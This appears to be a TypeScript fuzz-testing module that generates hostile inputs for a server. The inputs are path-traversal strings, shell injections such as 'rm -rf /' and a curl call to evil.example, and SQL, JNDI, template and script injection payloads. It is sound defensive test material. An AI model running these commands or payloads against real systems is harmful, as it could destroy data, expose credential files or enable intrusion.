/** Values that have broken servers before: traversal, shell and SQL metacharacters, bad bytes. */
import fc from 'fast-check'

/** Reaches a file name, an SSH command line or an SQL statement if a route forgets to check. */
const HOSTILE_STRINGS = [
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/shadow',
  '....//....//etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  "x';rm -rf /;'",
  '$(touch /tmp/fuzz-pwned)',
  '`id`',
  '| cat /etc/passwd',
  '; shutdown -h now',
  '&& curl http://evil.example',
  '> /dev/sda',
  "' OR 1=1 --",
  '"; DROP TABLE audit; --',
  'a\nb',
  'a\r\nX-Injected: 1',
  '\u0000',
  '%00',
  ['$', '{jndi:ldap://x}'].join(''),
  '{{7*7}}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  '\u202e\u0007',
  'ünïcødé-名前-😀',
  '\ud800',
  '-rf',
  '--help',
  '~root',
  '*',
]

/** Values of every JSON type, for a field that expects another. */
const WRONG_TYPES: unknown[] = [
  0,
  -1,
  1.5,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  '',
  'x',
  '1',
  'true',
  true,
  false,
  null,
  [],
  [1, 'a', null],
  {},
  { $ne: 1 },
  JSON.parse('{"__proto__":{"polluted":true}}'),
]

/** Byte sequences that are not UTF-8: lone continuation bytes, overlong forms, surrogates, cut-offs. */
const INVALID_UTF8: Buffer[] = [
  Buffer.from([0xff]),
  Buffer.from([0xfe, 0xff]),
  Buffer.from([0x80, 0x80]),
  Buffer.from([0xc0, 0xaf]),
  Buffer.from([0xe0, 0x80, 0xaf]),
  Buffer.from([0xed, 0xa0, 0x80]),
  Buffer.from([0xf4, 0x90, 0x80, 0x80]),
  Buffer.from([0xe2, 0x82]),
  Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80]),
]

export const CONTENT_TYPES = [
  undefined,
  '',
  'text/plain',
  'application/x-www-form-urlencoded',
  'application/xml',
  'application/json; charset=utf-16',
  'application/json; charset=x-nonsense',
  'application/jsonx',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'multipart/mixed; boundary=zz',
  'text/event-stream',
  '*/*',
  ';;;',
  'x'.repeat(2000),
]

export const hostileString = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.tuple(fc.constantFrom(...HOSTILE_STRINGS), fc.string({ maxLength: 8 })).map(([h, s]) => s + h),
)
export const wrongType = fc.constantFrom(...WRONG_TYPES)
export const invalidUtf8 = fc.constantFrom(...INVALID_UTF8)

/** Nested arrays or objects `depth` deep, as text (the server must not recurse itself to death). */
export function deepJson(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array'
    ? `${'['.repeat(depth)}1${']'.repeat(depth)}`
    : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`
}
